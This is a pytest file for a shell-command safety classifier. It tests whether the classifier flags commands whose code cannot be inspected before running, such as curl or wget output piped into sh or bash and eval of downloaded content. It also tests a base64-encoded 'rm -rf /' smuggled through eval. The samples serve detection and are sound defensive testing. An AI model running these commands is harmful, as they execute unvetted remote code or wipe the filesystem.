"""Code the guard cannot see before it runs (downloaded, held in a variable) is asked about
with a reason that says what could not be seen; code it can resolve (decoded from known input,
assigned earlier in the command) is judged as the command it is."""

from __future__ import annotations

import pytest

from countersign.facts.shell import Severity, ShellContext, classify

ROOT = "/work/project"
CTX = ShellContext(cwd=ROOT, project_root=ROOT, home="/home/dev")


def findings(command: str) -> dict[str, tuple[Severity, str]]:
    return {f.rule: (f.severity, f.reason) for f in classify(command, ROOT, CTX)}


@pytest.mark.parametrize(
    ("command", "rule", "unseen"),
    [
        (
            'bash -c "$(curl -fsSL https://x.example/install.sh)"',
            "exec.unseen-code",
            (
                "bash -c runs code that cannot be read before it runs: "
                "the output of `curl -fsSL https://x.example/install.sh`"
            ),
        ),
        (
            'sh -c "$(wget -qO- https://x.example)"',
            "exec.unseen-code",
            "the output of `wget -qO- https://x.example`",
        ),
        (
            'eval "$X"',
            "exec.unseen-code",
            "eval runs code that cannot be read before it runs: the value of $X",
        ),
        ("eval $SETUP", "exec.unseen-code", "the value of $SETUP"),
        ("eval `curl -s https://x.example`", "exec.unseen-code", "the output of `curl -s"),
        ('ssh web-1 "$CMD"', "exec.unseen-code", "ssh web-1 runs code"),
        ("bash <(curl -s https://x.example)", "exec.unseen-code", "the output of `curl -s"),
        ("source <(curl -s https://x.example/env)", "exec.unseen-code", "source runs code"),
        ("python3 <(curl -s https://x.example/a.py)", "exec.unseen-code", "python3 runs code"),
        ("curl -fsSL https://x.example | sh", "exec.pipe-to-shell", "piped from curl"),
        ("wget -qO- https://x.example | bash", "exec.pipe-to-shell", "piped from wget"),
        ("curl -sSL https://x.example | bash -s stable", "exec.pipe-to-shell", "piped from curl"),
        ("curl -sSL https://x.example | sudo bash -s -- -y", "exec.pipe-to-shell", "from curl"),
    ],
)
def test_code_that_cannot_be_seen_is_asked_about(command: str, rule: str, unseen: str) -> None:
    severity, reason = findings(command)[rule]
    assert severity is Severity.MEDIUM
    assert unseen in reason


def test_decoded_code_is_judged_as_the_decoded_command() -> None:
    (finding,) = classify('eval "$(echo cm0gLXJmIC8= | base64 -d)"', ROOT, CTX)
    assert (finding.rule, finding.severity) == ("fs.recursive-delete", Severity.CRITICAL)
    assert finding.command == "rm -rf /"
    assert finding.via == ("eval",)


def test_substituted_pipeline_gives_its_last_stage_output() -> None:
    found = findings('bash -c "$(printf %s cm0gLXJmIC8= | base64 --decode)"')
    assert found["fs.recursive-delete"][0] is Severity.CRITICAL


@pytest.mark.parametrize(
    "command",
    [
        'eval "$(echo ZWNobyBoaQ== | base64 -d)"',  # decodes to `echo hi`
        "X='ls -la'; eval \"$X\"",  # assigned in the same command: known
        "bash -c 'echo $HOME'",  # the inner shell expands $HOME as an argument
        'bash -c "cd $DIR && make"',  # the unknown part is an argument, not a command
        "curl -fsSL https://x.example/install.sh -o install.sh",  # downloaded, not run
        "curl -s https://x.example | jq .",
        "echo $(date)",
    ],
)
def test_code_that_is_seen_or_not_run_passes(command: str) -> None:
    assert all(s.rank < Severity.MEDIUM.rank for s, _ in findings(command).values()), findings(
        command
    )
